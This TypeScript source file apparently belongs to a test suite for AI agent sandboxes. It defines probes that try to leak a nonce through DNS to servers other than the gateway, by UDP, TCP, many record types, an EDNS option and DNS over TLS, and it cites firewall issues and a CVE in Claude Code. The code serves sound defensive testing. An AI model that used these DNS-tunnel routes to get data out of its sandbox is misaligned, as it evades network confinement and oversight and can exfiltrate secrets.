import { Resolver } from 'node:dns/promises';
import { all, clientHello, datagram, open, proxy, question, tunnel } from '../../guest/wire.ts';
import type { Probe } from '../probe.ts';
import { beyond4, DNS_PORT } from '../ways/aims.ts';
import { askedBy, askedByDatagram, leak, leakedBy, overTcp, portsOf, servers4, TYPES } from './asked.ts';

/** Queries to name servers of the attacker's choice. */

/** Returns a query with an OPT record (RFC 6891) that has an option with a private number. */
function withOption(name: string, text: string): Buffer {
  const message = question(name);
  message[11] = 1; // one additional record
  const data = Buffer.from([0xfd, 0xe9, 0, text.length, ...Buffer.from(text)]);
  return Buffer.concat([message, Buffer.from([0, 0, 41, 4, 208, 0, 0, 0, 0, 0, data.length]), data]);
}

/** Queries a chosen server with Node's resolver, for every record type. */
function resolving(server: string, name: string): Promise<void> {
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([server]);
  return all(TYPES.map((type) => resolver.resolve(name, type).catch(refuseRefused)));
}

/** Queries a server on the standard port, by UDP and TCP. */
const askedOf = (server: string, name: string): Promise<void> =>
  all([
    datagram('udp4', { port: DNS_PORT, address: server }, question(name)),
    overTcp({ host: server, port: DNS_PORT }, name),
  ]);

/** Accepts negative answers: only a refused connection or a timeout is a failure. */
function refuseRefused({ code, message }: NodeJS.ErrnoException): void {
  if (code === 'ECONNREFUSED' || code === 'ETIMEOUT') throw new Error(message);
}

const elsewhere = {
  ...leak,
  control: 'log',
  source: 'claude-code #36907, gh-aw-firewall #9: any server on port 53; CVE-2025-55284 (Claude Code)',
} as const;

export const ELSEWHERE: readonly Probe[] = [
  {
    ...elsewhere,
    id: 'dns-elsewhere',
    claim: 'No DNS server but the gateway can be asked.',
    attack: 'ask a DNS server of the agent’s choice',
    needs: 'ip4',
    run: {
      attack: (t, nonce) =>
        all(
          [...t.addresses.ip4, ...beyond4(t)].flatMap((address) =>
            portsOf(t).map((port) => datagram('udp4', { port, address }, question(leakedBy(nonce)))),
          ),
        ),
      control: askedByDatagram,
    },
  },
  {
    ...elsewhere,
    id: 'dns-beyond',
    claim: 'No DNS server beyond the host is asked but by the gateway.',
    attack: 'ask a DNS server of the world, by UDP and TCP',
    needs: 'beyond',
    run: {
      meetsSilence: true,
      attack: (t, nonce) => all(beyond4(t).map((server) => askedOf(server, leakedBy(nonce)))),
      control: (t, nonce) => askedOf(proxy().host, askedBy(t, nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-tcp',
    claim: 'No other DNS server can be asked over TCP.',
    attack: 'the same over TCP',
    source: 'gh-aw-firewall #9: any server on port 53, over TCP too; RFC 7766',
    run: {
      meetsSilence: true,
      attack: (t, nonce) => all(servers4(t).map((host) => overTcp({ host, port: t.port }, leakedBy(nonce)))),
      control: (t, nonce) => overTcp({ host: proxy().host, port: DNS_PORT }, askedBy(t, nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-types',
    claim: 'No type of record can be asked of another DNS server.',
    attack: 'the same for TXT, ANY, MX and nine more types',
    run: {
      attack: (t, nonce) =>
        all(
          servers4(t).flatMap((host) =>
            portsOf(t).map((port) => resolving(`${host}:${port}`, leakedBy(nonce))),
          ),
        ),
      control: (t, nonce) => resolving(proxy().host, askedBy(t, nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-option',
    claim: 'No option of a question reaches another DNS server.',
    attack: 'the same, with the data in an option (EDNS)',
    source: 'RFC 6891: options carry what they like',
    run: {
      attack: (t, nonce) =>
        all(
          servers4(t).flatMap((address) =>
            portsOf(t).map((port) => datagram('udp4', { port, address }, withOption('leak.test', nonce))),
          ),
        ),
      control: (t, nonce) =>
        datagram('udp4', { port: DNS_PORT, address: proxy().host }, withOption(askedBy(t, nonce), nonce)),
    },
  },
  {
    ...elsewhere,
    id: 'dns-tls',
    claim: 'No DNS server can be asked over TLS.',
    attack: 'the same over TLS (DoT)',
    control: 'canary',
    source: 'RFC 7858: DoT, which begins with TLS',
    run: {
      meetsSilence: true,
      attack: (t, nonce) =>
        all(
          servers4(t).map(
            async (host) => await clientHello(await open({ host, port: t.port }), leakedBy(nonce), nonce),
          ),
        ),
      control: async (t, nonce) => {
        const { socket } = await tunnel(`${t.names.tls}:${t.port}`);
        await clientHello(socket, t.names.tls, nonce);
      },
    },
  },
];
